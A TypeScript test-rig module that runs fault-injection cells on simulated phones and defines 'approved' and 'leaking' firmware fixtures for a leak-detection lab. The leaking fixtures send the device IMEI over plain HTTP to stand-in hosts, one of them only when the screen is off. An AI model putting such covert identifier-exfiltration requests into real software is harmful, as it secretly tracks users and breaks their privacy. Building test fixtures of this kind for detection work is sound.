import type { SpawnedPhones } from '../../devices/kinds/simulated/spawn.ts';
import type { Progress } from '../../lab/model/lab.ts';
import type { FaultLab, Lane, LaneEnded } from './fault-lab.ts';
import { type Emit, firmwareOf } from './rig.ts';

/** When a fault begins: at a step of the second trial, or between it and the first. */
export const moments = ['between', 'setup', 'trigger', 'dwell', 'end'] as const;

/** One run in which one fault meets one scenario. `fault` is null for the run that shows the fault-free verdict. */
export type Cell = {
  readonly fault: string | null;
  readonly scenario: string;
  /** Null for a fault that lasts until the run has ended. */
  readonly lasts: string | null;
  readonly moment: (typeof moments)[number];
};

export type CellEnded = LaneEnded & { readonly cell: Cell };

export const repeat = 2;

const from = 'com.rig.tracker';
const events = ['boot', 'screen-on', 'unlock', 'sim-swap'];

/** What the approved build sends, too: over TLS that is checked, and at one event only. */
const approved: readonly Emit[] = [
  {
    name: 'beacon',
    from: 'com.rig.beacon',
    on: ['boot'],
    request: { method: 'GET', url: 'http://beacon.maker.example/?id={{android-id}}' },
  },
  {
    name: 'telemetry',
    from: 'com.rig.beacon',
    on: events,
    request: {
      method: 'POST',
      url: 'https://telemetry.maker.example/',
      body: { json: { id: '{{android-id}}' } },
    },
  },
];

const leaks: readonly Emit[] = [
  {
    name: 'leak',
    from,
    on: events,
    request: { method: 'GET', url: 'http://collect.leak.example/?imei={{imei}}' },
  },
  {
    name: 'dark-leak',
    from,
    on: ['screen-off'],
    request: { method: 'GET', url: 'http://dark.leak.example/?imei={{imei}}' },
  },
];

export const approvedFirmware = firmwareOf('approved', approved);
export const leakingFirmware = firmwareOf('leaking', [...approved, ...leaks]);

/** Runs all cells, as many at once as there are lanes. */
export async function runCells(
  lab: FaultLab,
  cells: readonly Cell[],
  lanes: number,
  onEnd: (ended: CellEnded) => void = () => undefined,
): Promise<CellEnded[]> {
  const waiting = [...cells];
  const ended: CellEnded[] = [];
  const work = async () => {
    const lane = await lab.lane(leakingFirmware, Math.ceil(cells.length / lanes) * 2 + 2);
    try {
      for (let cell = waiting.shift(); cell !== undefined; cell = waiting.shift()) {
        const one = { ...(await runCell(lane, cell)), cell };
        ended.push(one);
        onEnd(one);
      }
    } finally {
      await lane.close();
    }
  };
  await Promise.all(Array.from({ length: lanes }, work));
  return ended;
}

export function nameOf({ fault, scenario, lasts, moment }: Cell): string {
  return fault === null ? `none-${scenario}` : `${fault}-${lasts ?? 'lasting'}-${moment}-${scenario}`;
}

async function runCell(lane: Lane, cell: Cell): Promise<LaneEnded> {
  let struck = false;
  const onProgress = (progress: Progress, spawned: SpawnedPhones, serial: string) => {
    if (cell.fault === null || struck || momentIn(progress) !== cell.moment) return;
    struck = true;
    void spawned.fault(serial, cell.lasts === null ? cell.fault : `${cell.fault}=${cell.lasts}`);
  };
  const ended = await lane.run({ name: nameOf(cell), scenarios: [cell.scenario], repeat, onProgress });
  if (cell.fault !== null && !struck) throw new Error(`${nameOf(cell)} was never struck: ${ended.fault}`);
  return ended;
}

function momentIn(progress: Progress): string | null {
  if (progress.kind === 'trial-end' && progress.trial.number === 1) return 'between';
  return progress.kind === 'trial' && progress.trial.number === 2 ? progress.text : null;
}
